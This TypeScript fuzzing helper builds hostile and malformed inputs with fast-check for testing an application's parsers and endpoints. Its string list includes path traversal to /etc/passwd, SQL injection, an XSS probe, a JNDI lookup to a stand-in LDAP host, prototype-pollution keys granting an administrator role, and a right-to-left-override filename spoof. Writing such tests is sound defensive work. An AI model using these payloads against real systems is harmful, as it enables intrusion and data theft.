/** What somebody may send who means no good, or whose program is broken. */
import fc from 'fast-check'

/** Texts that have broken systems before: keys, paths, formats, encodings, sizes. */
export const texts = [
  '',
  ' ',
  '\u0000',
  '\uFEFF',
  '\uD800',
  '__proto__',
  'constructor',
  'toString',
  '..',
  '../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '%',
  '%ZZ',
  'gas:',
  ':',
  'gas:H00017#EVENT#1',
  'CASE#gas:H00017',
  "'; DROP TABLE cases;--",
  '<script>alert(1)</script>',
  ['$', '{jndi:ldap://x.example}'].join(''),
  '=1+1',
  '0',
  '-1',
  '1e309',
  'NaN',
  'null',
  'undefined',
  '2026-02-30',
  '9999-12-31',
  '0000-01-01',
  '+275760-09-13',
  '2026-11-22T09:00:00+99:99',
  'P99999999999D',
  '🏚️'.repeat(50),
  'a'.repeat(5000),
  '\u202Egnp.exe',
  'ﷺ'.repeat(100),
] as const

export const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...texts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
)

/** JSON of any shape, deep and wide, with field names that schemas know and others. */
export const body = (names: readonly string[]) =>
  fc.oneof(
    fc.jsonValue({ maxDepth: 6 }).map(value => JSON.stringify(value)),
    fc
      .dictionary(fc.oneof(fc.constantFrom(...names), text), fc.oneof(text, fc.jsonValue({ maxDepth: 3 })), {
        maxKeys: 12,
      })
      .map(value => JSON.stringify(value)),
    text,
    fc.constant(`${'['.repeat(50_000)}`),
    fc.constant(`{"a":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}`),
    fc.constant(`{"id":"x","id":"y","__proto__":{"roles":["administrator"]}}`),
  )

/** Tables: real headers with cells of every kind, broken quotes, wrong delimiters, bytes. */
export const table = (columns: readonly string[]) =>
  fc.oneof(
    fc
      .tuple(
        fc.shuffledSubarray([...columns], { minLength: 1 }),
        fc.array(
          fc.array(fc.oneof(text, fc.constantFrom('H1', 'gas', 'dwelling', '2026-05-01', '31/02/2026', 'P1')), {
            maxLength: 12,
          }),
          {
            maxLength: 8,
          },
        ),
        fc.constantFrom(',', ';', '\t', '|'),
        fc.constantFrom('\n', '\r\n', '\r'),
      )
      .map(([header, rows, comma, end]) => [header, ...rows].map(cells => cells.join(comma)).join(end)),
    text,
    fc.constant(`${columns.join(',')}\n"${'x'.repeat(200_000)}`),
    fc.constant(`${'a,'.repeat(100_000)}\n`),
    fc.constant(`${columns.join(',')}\n${',\n'.repeat(50_000)}`),
  )
